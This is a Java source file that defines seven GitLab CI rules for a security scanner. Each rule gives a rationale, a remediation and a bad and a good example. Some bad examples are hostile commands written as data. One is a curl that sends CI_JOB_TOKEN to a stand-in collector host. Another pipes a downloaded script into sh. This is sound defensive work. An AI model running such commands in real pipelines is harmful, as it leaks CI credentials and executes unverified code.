package dev.imprint.scan.ci;

import dev.imprint.scan.Category;
import dev.imprint.scan.Rule;
import dev.imprint.scan.Severity;
import java.util.List;

/** The GitLab CI rules' metadata. */
final class GitlabRules {
  private GitlabRules() {}

  static final Rule JOB_IMAGE = Rule.builder("IMP-GITLAB-001")
      .title("Job image or service image not pinned by digest")
      .severity(Severity.MEDIUM).category(Category.IMMUTABILITY)
      .rationale("Every script of the job runs, with CI_JOB_TOKEN and the project's CI/CD "
          + "variables, inside this image; a tag (and above all latest) can be re-pointed to "
          + "different code between pipelines.")
      .remediation("Reference job and service images by digest (node:20@sha256:...) and update "
          + "the digest through reviewed merge requests, e.g. with Renovate.")
      .example("image: node:latest", "image: node:20.11@sha256:<digest>")
      .tags("gitlab-ci", "supply-chain").build();

  static final Rule HARDCODED_SECRET = Rule.builder("IMP-GITLAB-002")
      .title("Hard-coded secret in pipeline variables or scripts")
      .severity(Severity.CRITICAL).category(Category.NHI2)
      .rationale("A secret in .gitlab-ci.yml (a variable, or a password written on a script's "
          + "command line such as mysql -pS3cret) is readable by everyone who can read the "
          + "repository, copied into every fork and kept in git history; it cannot be masked "
          + "or protected like a CI/CD variable.")
      .remediation("Revoke the secret, then store the new one as a masked, protected CI/CD "
          + "variable or in an external secret manager (secrets: with Vault or a cloud "
          + "provider) and reference it by name.")
      .example("variables:\n  DEPLOY_TOKEN: glpat-...",
          "variables:\n  # DEPLOY_TOKEN is a masked, protected CI/CD variable")
      .tags("gitlab-ci", "secret", "CWE-798").build();

  static final Rule STATIC_CLOUD_KEYS = Rule.builder("IMP-GITLAB-003")
      .title("Long-lived cloud keys used where OIDC id_tokens would do")
      .severity(Severity.MEDIUM).category(Category.NHI6)
      .rationale("AWS access keys, GCP service-account keys and Azure client secrets kept as "
          + "CI/CD variables live until someone rotates them and work from anywhere; a "
          + "GitLab ID token exchanged with the cloud provider gives each job a credential "
          + "that expires in minutes and is bound to the project and branch.")
      .remediation("Request an ID token with id_tokens: (aud set to the cloud's audience) and "
          + "exchange it: aws sts assume-role-with-web-identity, a GCP workload identity "
          + "pool, or an Azure federated credential. Then delete the stored keys.")
      .example("deploy:\n  script:\n"
              + "    - aws s3 sync dist s3://site  # uses $AWS_SECRET_ACCESS_KEY",
          "deploy:\n  id_tokens:\n    AWS_TOKEN:\n      aud: sts.amazonaws.com\n  script:\n"
              + "    - aws sts assume-role-with-web-identity ...")
      .tags("gitlab-ci", "oidc", "CWE-798").build();

  static final Rule SECRET_ECHOED = Rule.builder("IMP-GITLAB-004")
      .title("Secret printed to the job log")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("Job logs are kept and visible to every project member (and to the public on "
          + "public projects); masking fails for variables that are not masked, too short, "
          + "multi-line or transformed.")
      .remediation("Never echo credentials; hand them to tools on stdin (--password-stdin) or "
          + "through the environment variable the tool reads.")
      .example("script:\n  - echo $DEPLOY_TOKEN",
          "script:\n  - echo \"$DEPLOY_TOKEN\" | docker login -u ci --password-stdin")
      .tags("gitlab-ci", "CWE-532").build();

  static final Rule EXFILTRATION = Rule.builder("IMP-GITLAB-005")
      .title("Job token, secrets or the environment sent to an outside URL")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("Putting CI_JOB_TOKEN or a secret variable into a URL or request body for a "
          + "host other than the GitLab instance, or piping the environment into curl or "
          + "netcat, hands the pipeline's identity to whoever runs that endpoint. Sending the "
          + "job's own credentials (CI_JOB_TOKEN, a job JWT or an id_tokens: value) to a host "
          + "they are not for - not GitLab, not the token's audience, not an exchange endpoint "
          + "such as Vault's login - is critical, in a header as much as in a body.")
      .remediation("Use CI_JOB_TOKEN only against $CI_API_V4_URL or $CI_SERVER_URL, send "
          + "other credentials only as authentication headers to the service they belong "
          + "to, and never dump the environment.")
      .example("script:\n  - curl \"https://collector.example.net/?t=$CI_JOB_TOKEN\"",
          "script:\n  - 'curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" \"$CI_API_V4_URL/projects\"'")
      .tags("gitlab-ci", "CWE-200").build();

  static final Rule DEBUG_TRACE = Rule.builder("IMP-GITLAB-006")
      .title("CI_DEBUG_TRACE writes every variable to the job log")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("With CI_DEBUG_TRACE (or CI_DEBUG_SERVICES) set to true, the runner traces "
          + "every shell command with its expanded values, so masked and protected variables "
          + "appear in the log in clear text.")
      .remediation("Remove CI_DEBUG_TRACE from the committed file; enable it only for a single "
          + "manual run on a branch without access to protected variables.")
      .example("variables:\n  CI_DEBUG_TRACE: \"true\"", "variables:\n  LOG_LEVEL: debug")
      .tags("gitlab-ci", "CWE-532").build();

  static final Rule PIPE_TO_SHELL = Rule.builder("IMP-GITLAB-007")
      .title("Job script pipes a download into a shell")
      .severity(Severity.MEDIUM).category(Category.NHI3)
      .rationale(PipeToShellText.RATIONALE)
      .remediation(PipeToShellText.REMEDIATION)
      .example("script:\n  - curl -fsSL https://get.example.com | sh",
          "script:\n  - curl -fsSLo i.sh https://get.example.com/v1.2.3/i.sh\n"
              + "  - echo \"<sha256>  i.sh\" | sha256sum -c -\n  - sh i.sh")
      .tags("gitlab-ci", "supply-chain", "CWE-494").build();

  static final List<Rule> ALL = List.of(JOB_IMAGE, HARDCODED_SECRET, STATIC_CLOUD_KEYS,
      SECRET_ECHOED, EXFILTRATION, DEBUG_TRACE, PIPE_TO_SHELL);
}
